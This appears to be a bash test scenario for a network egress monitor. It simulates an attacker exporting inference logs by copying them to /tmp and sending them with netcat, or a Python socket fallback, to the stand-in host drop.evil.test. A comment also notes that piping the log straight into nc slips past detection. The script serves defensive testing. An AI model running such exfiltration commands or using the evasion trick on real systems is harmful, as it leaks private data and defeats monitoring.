#!/bin/bash
# title: inference logs copied to /tmp, then exported with netcat to an attacker's listener
# expect-monitor: unexpected_egress log_export tool_egress
# expect-enforce: unexpected_egress tool_egress
# block: zero
# target: drop
# The copy comes first: `nc < inference.log` alone is not caught (the read
# totals of nc reach the agent at its exit, after the flow was judged).
source "$(dirname "$0")/../lib.sh"
if command -v nc >/dev/null; then
  send="nc -q 1 -w 10 drop.evil.test 9000 < /tmp/sluice-lab-logs.txt"
else  # no netcat on this host: the same with python sockets
  send="$PY -c 'import socket; s = socket.create_connection((\"drop.evil.test\", 9000), 5); s.sendall(open(\"/tmp/sluice-lab-logs.txt\", \"rb\").read()); s.close()'"
fi
in_cgroup inference sh -c "cp $DATA/logs/inference.log /tmp/sluice-lab-logs.txt && sleep 1.5 &&
  echo T0=\$(date +%s%3N) && exec $send"
echo "exit $?"
rm -f /tmp/sluice-lab-logs.txt
